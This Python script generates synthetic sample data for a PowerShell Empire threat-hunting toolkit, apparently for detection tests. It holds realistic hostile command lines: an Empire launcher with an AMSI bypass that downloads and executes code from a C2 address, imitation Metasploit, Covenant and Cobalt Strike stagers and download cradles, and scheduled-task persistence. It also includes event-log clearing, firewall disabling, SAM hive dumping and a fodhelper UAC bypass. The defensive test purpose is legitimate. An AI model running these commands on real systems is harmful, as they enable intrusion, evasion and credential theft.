#!/usr/bin/env python3
"""make-samples.py: writes the hunt's sample files into samples/.

Everything here is made by the project from public facts of the BOTSv2 Empire
hunt (user agent, C2 server, URIs, the ftp/whoami/schtasks sequence); no real
malware or captured data. Deterministic: the same files every run (fixed seed),
so golden tests can depend on them.

    scripts/make-samples.py            # rewrite samples/
"""
import base64
import csv
import hashlib
import io
import json
import random
import struct
import sys
import zlib
from pathlib import Path

ROOT = Path(__file__).resolve().parent.parent
OUT = ROOT / "samples"
rng = random.Random(20170822)  # BOTSv2's day of Empire

UA = "Mozilla/5.0 (Windows NT 6.1; WOW64; Trident/7.0; rv:11.0) like Gecko"
SERVER = "https://45.77.65.211:443"
URIS = ["/admin/get.php", "/news.php", "/login/process.php"]
PRINTABLE = "".join(chr(c) for c in range(0x21, 0x7F) if chr(c) not in "'\"`$")
STAGING_KEY = "".join(rng.choice(PRINTABLE) for _ in range(32))


# RC4 as the launcher generator implements it (one implementation for both).
sys.path.insert(0, str(ROOT / "tests" / "gen"))
from empire_gen import rc4  # noqa: E402


def session_cookie() -> str:
    """Empire 2.x routing packet of a launcher: IV || RC4(IV || key, header)."""
    iv = bytes(rng.randrange(256) for _ in range(4))
    # session id "00000000", language 1 (PowerShell), meta 1 (STAGE0), additional 0, length 0
    header = b"00000000" + struct.pack("<BBHI", 1, 1, 0, 0)
    return base64.b64encode(iv + rc4(iv + STAGING_KEY.encode(), header)).decode()


def random_case(code: str) -> str:
    """Empire randomizes the case of code, never of quoted values."""
    out, quote = [], None
    for ch in code:
        if quote:
            out.append(ch)
            if ch == quote:
                quote = None
        elif ch in "'\"":
            quote = ch
            out.append(ch)
        else:
            out.append(ch.upper() if rng.random() < 0.5 else ch.lower())
    return "".join(out)


def empire_launcher() -> str:
    uri = rng.choice(URIS)
    # Empire 2.0, as BOTSv2 (2017) saw it: AMSI bypass, then the stager.
    script = (
        "[Ref].Assembly.GetType('System.Management.Automation.AmsiUtils')|?{$_}|%{$_.GetField('amsiInitFailed','NonPublic,Static').SetValue($null,$true)};"
        "[System.Net.ServicePointManager]::Expect100Continue=0;"
        "$wc=New-Object System.Net.WebClient;"
        f"$u='{UA}';"
        "[System.Net.ServicePointManager]::ServerCertificateValidationCallback = {$true};"
        "$wc.Headers.Add('User-Agent',$u);$wc.Proxy=[System.Net.WebRequest]::DefaultWebProxy;"
        "$wc.Proxy.Credentials = [System.Net.CredentialCache]::DefaultNetworkCredentials;"
        f"$K=[System.Text.Encoding]::ASCII.GetBytes('{STAGING_KEY}');"
        "$R={$D,$K=$Args;$S=0..255;0..255|%{$J=($J+$S[$_]+$K[$_%$K.Count])%256;$S[$_],$S[$J]=$S[$J],$S[$_]};"
        "$D|%{$I=($I+1)%256;$H=($H+$S[$I])%256;$S[$I],$S[$H]=$S[$H],$S[$I];$_-bxor$S[($S[$I]+$S[$H])%256]}};"
        f"$ser='{SERVER}';$t='{uri}';"
        f"$wc.Headers.Add(\"Cookie\",\"session={session_cookie()}\");"
        "$data=$wc.DownloadData($ser+$t);$iv=$data[0..3];$data=$data[4..$data.length];"
        "-join[Char[]](& $R $data ($IV+$K))|IEX"
    )
    return random_case(script)


def enc(script: str) -> str:
    return base64.b64encode(script.encode("utf-16-le")).decode()


def launcher_cmdline(script: str) -> str:
    return "powershell -noP -sta -w 1 -enc  " + enc(script)


def write(name: str, text: str) -> None:
    (OUT / name).write_text(text, newline="")


def main() -> None:
    OUT.mkdir(exist_ok=True)
    launcher = empire_launcher()
    cmdline = launcher_cmdline(launcher)
    write("empire-launcher.cmdline", cmdline + "\n")
    write("empire-launcher.b64", enc(launcher) + "\n")

    blobs = [
        "whoami /user",
        "IEX (New-Object Net.WebClient).DownloadString('http://45.77.65.211:80/news.php')",
        "Get-WmiObject Win32_OperatingSystem | Select-Object Caption, Version",
        "net localgroup administrators",
        "Write-Output 'Grüße aus Köln ✓'",
    ]
    write("blobs.txt", "".join(enc(b) + "\n" for b in blobs))

    # Lines that each break one rule: the tools must report them and go on.
    bad = [
        enc("whoami"),                                  # good
        "dwBoAG8AYQBtAGkA!!",                           # a character outside the alphabet
        base64.b64encode("hi".encode("utf-16-le") + b"X").decode(),  # odd number of UTF-16 bytes
        enc("net user"),                                # good
        "",                                             # empty record
    ]
    write("blobs-bad.txt", "".join(b + "\n" for b in bad))

    gz = base64.b64encode(zlib.compress(b"$s=New-Object IO.MemoryStream;# payload\n", 9)).decode()
    write("zlib.b64", gz + "\n")

    task_cmd = ("powershell.exe -NonI -W hidden -c \\\"IEX ([Text.Encoding]::UNICODE.GetString("
                "[Convert]::FromBase64String((gp HKLM:\\Software\\Microsoft\\Network debug).debug)))\\\"")
    schtasks = ('schtasks.exe /Create /F /RU system /SC DAILY /ST 10:51 /TN Updater /TR "' + task_cmd + '"')
    write("schtasks.cmdline", schtasks + "\n")

    proxy = [
        f'1503443422.118 1203 10.0.2.107 TCP_TUNNEL/200 4312 CONNECT 45.77.65.211:443 - HIER_DIRECT/45.77.65.211 - "{UA}"',
        f'1503443422.507 311 10.0.2.107 TCP_MISS/200 982 GET {SERVER}{URIS[0]} - HIER_DIRECT/45.77.65.211 text/html "{UA}"',
        f'1503443480.013 208 10.0.2.109 TCP_MISS/200 1510 POST {SERVER}{URIS[2]} - HIER_DIRECT/45.77.65.211 application/octet-stream "{UA}"',
        '1503443502.771 95 10.0.4.4 TCP_MISS/200 3311 GET http://www.bing.com/search?q=%22powershell+empire%22+default+uri - HIER_DIRECT/204.79.197.200 text/html "Mozilla/5.0 (Windows NT 10.0; Win64; x64)"',
        "Aug 22 23:21:02 fw01 kernel: ACCEPT IN=eth1 OUT=eth0 SRC=10.0.2.107 DST=45.77.65.211 PROTO=TCP SPT=49731 DPT=443",
        "Aug 22 23:25:40 fw01 kernel: ACCEPT IN=eth1 OUT=eth0 SRC=10.0.1.100 DST=160.153.91.7 PROTO=TCP SPT=50110 DPT=21",
    ]
    write("proxy.log", "".join(l + "\n" for l in proxy))

    # Sysmon EventID 1 in Splunk's XmlWinEventLog shape: one event per line.
    xml = (
        "<Event xmlns='http://schemas.microsoft.com/win/2004/08/events/event'><System>"
        "<Provider Name='Microsoft-Windows-Sysmon' Guid='{5770385F-C22A-43E0-BF4C-06F5698FFBD9}'/>"
        "<EventID>1</EventID><Version>5</Version><Level>4</Level><Task>1</Task><Opcode>0</Opcode>"
        "<Keywords>0x8000000000000000</Keywords><TimeCreated SystemTime='2017-08-22T23:21:35.219000000Z'/>"
        "<EventRecordID>86413</EventRecordID><Correlation/><Execution ProcessID='1836' ThreadID='2608'/>"
        "<Channel>Microsoft-Windows-Sysmon/Operational</Channel><Computer>venus.frothly.local</Computer>"
        "<Security UserID='S-1-5-18'/></System><EventData>"
        "<Data Name='UtcTime'>2017-08-22 23:21:35.219</Data>"
        "<Data Name='ProcessGuid'>{A8B46A3C-BC8F-599C-0000-0010A5B72A00}</Data>"
        "<Data Name='ProcessId'>3912</Data><Data Name='Image'>C:\\Windows\\System32\\ftp.exe</Data>"
        "<Data Name='CommandLine'>ftp.exe -i -s:winsys32.dll</Data>"
        "<Data Name='CurrentDirectory'>C:\\Users\\billy.tun\\AppData\\Roaming\\</Data>"
        "<Data Name='User'>FROTHLY\\billy.tun</Data><Data Name='LogonId'>0x2A9B1F</Data>"
        "<Data Name='IntegrityLevel'>High</Data>"
        "<Data Name='Hashes'>SHA1=E1AD3EB5AE1CE3C3C7BB5CA6B6D4F5E1C5F2E1D2</Data>"
        "<Data Name='ParentProcessGuid'>{A8B46A3C-BB21-599C-0000-0010C3452900}</Data>"
        "<Data Name='ParentProcessId'>5068</Data>"
        "<Data Name='ParentImage'>C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe</Data>"
        f"<Data Name='ParentCommandLine'>{cmdline}</Data></EventData></Event>"
    )
    write("sysmon-eid1.xml", xml + "\n")

    # Process creations as JSON lines (OTRF/NXLog shape: EventData at the top level).
    children = [
        ("C:\\Windows\\System32\\ftp.exe", "ftp.exe -i -s:winsys32.dll"),
        ("C:\\Windows\\System32\\whoami.exe", "whoami.exe /user"),
        ("C:\\Windows\\System32\\schtasks.exe", schtasks),
    ]
    lines = []
    for n, (image, cl) in enumerate(children):
        lines.append(json.dumps({
            "Hostname": "venus.frothly.local", "EventID": 1, "UtcTime": f"2017-08-22 23:2{1 + n}:35.219",
            "Image": image, "CommandLine": cl,
            "ParentImage": "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
            "ParentCommandLine": cmdline, "ParentProcessId": "5068",
        }, ensure_ascii=False))
    lines.append(json.dumps({"Hostname": "venus.frothly.local", "EventID": 1,
                             "Image": "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
                             "CommandLine": cmdline, "ParentImage": "C:\\Windows\\explorer.exe",
                             "ParentCommandLine": "C:\\Windows\\Explorer.EXE", "ParentProcessId": "2212"}))
    write("sysmon.jsonl", "".join(l + "\n" for l in lines))

    # A Splunk `| table` export as CSV.
    buf = io.StringIO()
    w = csv.writer(buf, lineterminator="\n")
    w.writerow(["_time", "host", "Image", "CommandLine", "ParentCommandLine"])
    for n, (image, cl) in enumerate(children):
        w.writerow([f"2017-08-22T23:2{1 + n}:35.219+0000", "wrk-klagerf", image, cl, cmdline])
    write("splunk-export.csv", buf.getvalue())
    botsv2_events(cmdline, schtasks)


def botsv2_events(launcher: str, schtasks: str) -> None:
    """cmdchain's samples: the hunt's process creations on three hosts, as OTRF-style
    JSON lines and as Splunk XmlWinEventLog lines (the same events)."""
    import uuid
    from xml.sax.saxutils import escape, quoteattr
    ns = uuid.UUID("8a8f5c7e-0b6b-4d3e-9d35-2017082223ff")

    def guid(name: str) -> str:
        return "{" + str(uuid.uuid5(ns, name)).upper() + "}"

    ps = "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe"
    sys32 = "C:\\Windows\\System32\\"
    events = []  # (host, minute, second, guid, pid, pguid, ppid, image, cmd, pimage, pcmd, user, il)
    hosts = [("wrk-klagerf.frothly.local", "FROTHLY\\kevin.lagerfield", 21),
             ("venus.frothly.local", "FROTHLY\\billy.tun", 31),
             ("wrk-btun.frothly.local", "FROTHLY\\billy.tun", 41)]
    for n, (host, user, minute) in enumerate(hosts):
        explorer = (host, minute - 1, 5, guid(host + "explorer"), 2212 + n, "", 0,
                    "C:\\Windows\\explorer.exe", "C:\\Windows\\Explorer.EXE", "", "", user, "Medium")
        shell = (host, minute, 2, guid(host + "ps"), 5068 + n, explorer[3], explorer[4], ps, launcher,
                 explorer[7], explorer[8], user, "High")
        events += [explorer, shell]
        for k, (exe, cl) in enumerate([("ftp.exe", "ftp.exe -i -s:winsys32.dll"),
                                       ("whoami.exe", "whoami.exe /user"),
                                       ("schtasks.exe", schtasks)]):
            events.append((host, minute, 35 + 10 * k, guid(host + exe), 3912 + 10 * k + n,
                           shell[3], shell[4], sys32 + exe, cl, ps, launcher, user, "High"))
    # Anti-forensics on venus: cmd.exe (never logged itself) clears the event logs.
    events.append(("venus.frothly.local", 45, 1, guid("venus-wevtutil"), 7001, guid("venus-cmd"),
                   6999, sys32 + "wevtutil.exe", "wevtutil cl Security",
                   sys32 + "cmd.exe", "cmd.exe /c wevtutil cl Security", "FROTHLY\\billy.tun",
                   "High"))
    # More of what the shipped Sigma rules look for: the firewall turned off and
    # shares listed on venus (by the same never-logged cmd.exe), the SAM hive
    # saved on wrk-klagerf, and a fodhelper UAC bypass on wrk-btun (a High
    # integrity PowerShell under the Medium fodhelper.exe).
    events.append(("venus.frothly.local", 46, 10, guid("venus-netsh"), 7005, guid("venus-cmd"),
                   6999, sys32 + "netsh.exe", "netsh advfirewall set allprofiles state off",
                   sys32 + "cmd.exe", "cmd.exe /c wevtutil cl Security", "FROTHLY\\billy.tun",
                   "High"))
    events.append(("venus.frothly.local", 46, 20, guid("venus-net"), 7009, guid("venus-cmd"),
                   6999, sys32 + "net.exe", "net share", sys32 + "cmd.exe",
                   "cmd.exe /c wevtutil cl Security", "FROTHLY\\billy.tun", "High"))
    k_shell = [e for e in events if e[0] == "wrk-klagerf.frothly.local" and e[7] == ps][0]
    events.append(("wrk-klagerf.frothly.local", 48, 3, guid("klagerf-reg"), 4410,
                   k_shell[3], k_shell[4], sys32 + "reg.exe",
                   "reg.exe save HKLM\\SAM C:\\Users\\Public\\sam.save /y", ps, launcher,
                   "FROTHLY\\kevin.lagerfield", "High"))
    b_explorer = [e for e in events if e[0] == "wrk-btun.frothly.local" and
                  e[7].endswith("explorer.exe")][0]
    events.append(("wrk-btun.frothly.local", 50, 1, guid("btun-fodhelper"), 6120,
                   b_explorer[3], b_explorer[4], sys32 + "fodhelper.exe", "fodhelper.exe",
                   b_explorer[7], b_explorer[8], "FROTHLY\\billy.tun", "Medium"))
    events.append(("wrk-btun.frothly.local", 50, 2, guid("btun-fodhelper-ps"), 6124,
                   guid("btun-fodhelper"), 6120, ps, "powershell.exe -nop -w hidden",
                   sys32 + "fodhelper.exe", "fodhelper.exe", "FROTHLY\\billy.tun", "High"))
    events.sort(key=lambda e: (e[1], e[2], e[0]))
    lines, xml_lines = [], []
    for (host, minute, second, g, pid, pg, ppid, image, cl, pimage, pcl, user, il) in events:
        utc = f"2017-08-22 23:{minute:02d}:{second:02d}.219"
        rec = {"Hostname": host, "EventID": 1, "SourceName": "Microsoft-Windows-Sysmon",
               "UtcTime": utc, "ProcessGuid": g, "ProcessId": pid, "Image": image,
               "CommandLine": cl, "User": user, "IntegrityLevel": il,
               "host": "splunk-collector-01"}
        if pg:
            rec.update({"ParentProcessGuid": pg, "ParentProcessId": str(ppid),
                        "ParentImage": pimage, "ParentCommandLine": pcl})
        lines.append(json.dumps(rec, ensure_ascii=False))
        data = {"UtcTime": utc, "ProcessGuid": g, "ProcessId": str(pid), "Image": image,
                "CommandLine": cl, "User": user, "IntegrityLevel": il}
        if pg:
            data.update({"ParentProcessGuid": pg, "ParentProcessId": str(ppid),
                         "ParentImage": pimage, "ParentCommandLine": pcl})
        xml_lines.append(
            "<Event xmlns='http://schemas.microsoft.com/win/2004/08/events/event'><System>"
            "<Provider Name='Microsoft-Windows-Sysmon' Guid='{5770385F-C22A-43E0-BF4C-06F5698FFBD9}'/>"
            f"<EventID>1</EventID><TimeCreated SystemTime='2017-08-22T23:{minute:02d}:{second:02d}.219000000Z'/>"
            f"<Channel>Microsoft-Windows-Sysmon/Operational</Channel><Computer>{escape(host)}</Computer>"
            "</System><EventData>"
            + "".join(f"<Data Name={quoteattr(k)}>{escape(str(v))}</Data>" for k, v in data.items())
            + "</EventData></Event>")
    # A network connection (EventID 3): read, counted, not a process.
    lines.append(json.dumps({"Hostname": "venus.frothly.local", "EventID": 3,
                             "SourceName": "Microsoft-Windows-Sysmon",
                             "UtcTime": "2017-08-22 23:31:03.100", "Image": ps,
                             "DestinationIp": "45.77.65.211", "DestinationPort": 443}))
    write("sysmon-botsv2.jsonl", "".join(l + "\n" for l in lines))
    write("sysmon-botsv2.xml", "".join(l + "\n" for l in xml_lines))

    # The same process events as a Splunk `| table` CSV export ...
    buf = io.StringIO()
    w = csv.writer(buf, lineterminator="\n")
    cols = ["_time", "host", "EventCode", "ProcessGuid", "ProcessId", "Image", "CommandLine",
            "User", "IntegrityLevel", "ParentProcessGuid", "ParentProcessId", "ParentImage",
            "ParentCommandLine"]
    w.writerow(cols)
    for (host, minute, second, g, pid, pg, ppid, image, cl, pimage, pcl, user, il) in events:
        w.writerow([f"2017-08-22T23:{minute:02d}:{second:02d}.219+00:00", host, 1, g, pid, image, cl,
                    user, il, pg, ppid if pg else "", pimage, pcl])
    write("sysmon-botsv2.csv", buf.getvalue())
    # ... and as an EVTX-to-JSON converter writes them: a pretty-printed array
    # of {"Event": {"System": ..., "EventData": ...}} objects.
    docs = []
    for (host, minute, second, g, pid, pg, ppid, image, cl, pimage, pcl, user, il) in events:
        data = {"UtcTime": f"2017-08-22 23:{minute:02d}:{second:02d}.219", "ProcessGuid": g,
                "ProcessId": pid, "Image": image, "CommandLine": cl, "User": user,
                "IntegrityLevel": il}
        if pg:
            data.update({"ParentProcessGuid": pg, "ParentProcessId": ppid,
                         "ParentImage": pimage, "ParentCommandLine": pcl})
        docs.append({"Event": {
            "System": {"Provider": {"#attributes": {"Name": "Microsoft-Windows-Sysmon"}},
                       "EventID": 1, "Channel": "Microsoft-Windows-Sysmon/Operational",
                       "Computer": host,
                       "TimeCreated": {"#attributes": {
                           "SystemTime": f"2017-08-22T23:{minute:02d}:{second:02d}.219000Z"}}},
            "EventData": data}})
    write("sysmon-botsv2.json", json.dumps(docs, indent=2, ensure_ascii=False) + "\n")


def gzip_b64(data: bytes) -> str:
    c = zlib.compressobj(9, zlib.DEFLATED, 31)
    return base64.b64encode(c.compress(data) + c.flush()).decode()


def deflate_b64(data: bytes) -> str:
    c = zlib.compressobj(9, zlib.DEFLATED, -15)
    return base64.b64encode(c.compress(data) + c.flush()).decode()


def other_stagers() -> list:
    """Synthetic stagers in the shapes of other frameworks (our own text and bytes)."""
    lines = []
    # Metasploit-style psh runner: gzip script mapping x86 reverse_tcp-like bytes
    # (cld; call ... push 192.168.1.2; push 0x5c110002 = AF_INET, port 4444).
    sc = bytes.fromhex("fce8820000006089e531c0648b5030") + b"\x68\xc0\xa8\x01\x02\x68\x02\x00\x11\x5c" + bytes(16)
    inner = ("function fa { Param ($m, $p) $u = ([AppDomain]::CurrentDomain.GetAssemblies() | Where-Object "
             "{ $_.GlobalAssemblyCache }).GetType('Microsoft.Win32.UnsafeNativeMethods'); "
             "return $u.GetMethod('GetProcAddress').Invoke($null, @($m, $p)) }\n"
             f"[Byte[]]$sc = [System.Convert]::FromBase64String(\"{base64.b64encode(sc).decode()}\")\n"
             "$mem = [System.Runtime.InteropServices.Marshal]::GetDelegateForFunctionPointer((fa kernel32.dll "
             "VirtualAlloc), [IntPtr]).Invoke([IntPtr]::Zero, $sc.Length, 0x3000, 0x40)\n")
    lines.append("powershell.exe -nop -w hidden -noni -c &([scriptblock]::create((New-Object System.IO.StreamReader("
                 "New-Object System.IO.Compression.GzipStream((New-Object System.IO.MemoryStream(,[System.Convert]::"
                 f"FromBase64String('{gzip_b64(inner.encode())}'))),[System.IO.Compression.CompressionMode]::"
                 "Decompress))).ReadToEnd()))")
    # Covenant-style launcher: deflate + Assembly.Load of a (tiny, fake) .NET PE
    # whose user strings hold the C2 URL in UTF-16LE.
    pe = bytearray(0x200)
    pe[0:2] = b"MZ"
    pe[0x3C] = 0x80
    pe[0x80:0x84] = b"PE\0\0"
    url = "http://10.10.5.5:8080".encode("utf-16-le")
    pe[0x100:0x100 + len(url)] = url
    lines.append('"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe" -Sta -Nop -Window Hidden '
                 '-Command "sv o (New-Object IO.MemoryStream);sv d (New-Object IO.Compression.DeflateStream('
                 f"[IO.MemoryStream][Convert]::FromBase64String('{deflate_b64(bytes(pe))}'),"
                 "[IO.Compression.CompressionMode]::Decompress));sv b (New-Object Byte[](1024));"
                 "sv r (gv d).Value.Read((gv b).Value,0,1024);while((gv r).Value -gt 0){(gv o).Value.Write("
                 "(gv b).Value,0,(gv r).Value);sv r (gv d).Value.Read((gv b).Value,0,1024);}"
                 '[Reflection.Assembly]::Load((gv o).Value.ToArray()).EntryPoint.Invoke(0,@(,[string[]]@()))|Out-Null"')
    # A download cradle hidden by string obfuscation (concatenation, format, [char]).
    lines.append("powershell -ep bypass -c \"IEX ((New-Object Net.WebClient).('Down'+'loadString').Invoke("
                 "('{1}{0}' -f '45.77.65.211/news.php','http://')))\"; powershell -c \"&([char]73+[char]69+[char]88) 'whoami'\"")
    # Cobalt Strike-style PowerShell stager: gzip script whose Byte[] is XORed with
    # 35 before it runs; the (fake) stager bytes carry host, URI and user agent.
    stager = (bytes.fromhex("fce8890000006089e531d2648b523000") + b"cdn.update-check.net\x00/jquery-3.3.1.min.js\x00"
              + b"User-Agent: Mozilla/5.0 (Windows NT 6.3; Trident/7.0; rv:11.0) like Gecko\r\n\x00" + bytes(8))
    xored = bytes(b ^ 35 for b in stager)
    cs_inner = ("Set-StrictMode -Version 2\n"
                f"[Byte[]]$var_code = [System.Convert]::FromBase64String('{base64.b64encode(xored).decode()}')\n"
                "for ($x = 0; $x -lt $var_code.Count; $x++) { $var_code[$x] = $var_code[$x] -bxor 35 }\n"
                "$var_va = [System.Runtime.InteropServices.Marshal]::GetDelegateForFunctionPointer("
                "(func_get_proc_address kernel32.dll VirtualAlloc), (func_get_delegate_type @([IntPtr], "
                "[UInt32], [UInt32], [UInt32]) ([IntPtr])))\n")
    lines.append("powershell -nop -w hidden -encodedcommand " + enc(
        "$s=New-Object IO.MemoryStream(,[Convert]::FromBase64String(\"" + gzip_b64(cs_inner.encode()) +
        "\"));IEX (New-Object IO.StreamReader(New-Object IO.Compression.GzipStream($s,"
        "[IO.Compression.CompressionMode]::Decompress))).ReadToEnd();"))
    # Metasploit web_delivery-style cradle.
    lines.append("powershell.exe -nop -w hidden -c $q=new-object net.webclient;$q.proxy="
                 "[Net.WebRequest]::GetSystemWebProxy();$q.Proxy.Credentials=[Net.CredentialCache]::"
                 "DefaultCredentials;IEX $q.downloadstring('http://172.16.5.20:8080/4tXyb3Wq');")
    # Base64 inside base64: -enc of a script that runs an ASCII FromBase64String payload.
    stage2 = "Get-WmiObject Win32_ComputerSystem | Select-Object Domain"
    outer = ("IEX ([System.Text.Encoding]::ASCII.GetString([System.Convert]::FromBase64String('"
             + base64.b64encode(stage2.encode()).decode() + "')))")
    lines.append("cmd.exe /c powershell -e " + enc(outer))
    return lines


def generated_launchers() -> list:
    """One Empire launcher per generation under several wrappers (tests/gen/empire_gen.py)."""
    import subprocess
    import sys
    out = subprocess.run([sys.executable, str(ROOT / "tests" / "gen" / "empire_gen.py"),
                          "--count", "10", "--seed", "7"], capture_output=True, text=True, check=True)
    return [json.loads(line)["cmdline"] for line in out.stdout.splitlines()]


def extra() -> None:
    write("stagers.txt", "".join(l + "\n" for l in other_stagers()))
    write("empire-launchers.txt", "".join(l + "\n" for l in generated_launchers()))


def implant_bin() -> bytes:
    """A small executable-like binary for iocgrep's binary input: indicators in
    ASCII and UTF-8 runs, one in UTF-16LE, NUL padding, few newlines (one stretch
    of more than 1 KiB without any), and one printable run longer than 1 KiB."""
    r = random.Random(0x10C)  # its own generator: the other samples stay as they are
    # Bytes that are never part of a printable run (no tab, CR or LF either).
    noise = [b for b in range(0x20) if b not in (0x09, 0x0A, 0x0D)] + [0x7F]
    noise += list(range(0x80, 0xC2)) + list(range(0xF5, 0x100))

    def junk(n: int) -> bytes:
        return bytes(r.choice(noise) for _ in range(n))

    def wide(text: str) -> bytes:
        return text.encode("utf-16-le")

    config = ";".join(f"opt{i:03d}={r.randrange(10**6):06d}" for i in range(90))
    config += ";fallback=http://198.51.100.23:8080/gate.php"
    out = bytearray(b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00")
    out += b"\xb8" + b"\x00" * 47
    out += b"!This program cannot be run in DOS mode.\r\r\n$\x00"
    out += junk(300)
    out += b"\x00https://45.77.65.211:443/admin/get.php\x00\x00"
    out += junk(700)
    out += b"\x00\x00" + wide("https://cdn.wide-beacon.net/update") + b"\x00\x00"
    out += junk(900)
    out += b"\x00update-check.xyz\x00ops@evil-empire.com\x00"
    out += b"\x00" + "m\u00fcnchen-login.de".encode() + b"\x00"
    out += junk(400)
    out += b"\x00" + config.encode() + b"\x00"
    out += junk(300) + b"\n"
    out += b"\x00sha256 " + hashlib.sha256(b"ioc-toolkit implant sample").hexdigest().encode()
    out += b"\x00" + junk(200) + b"\n\x00\x00version 10.0.19041.1\x00" + junk(100)
    return bytes(out)


def binary() -> None:
    (OUT / "implant.bin").write_bytes(implant_bin())


if __name__ == "__main__":
    main()
    extra()
    binary()
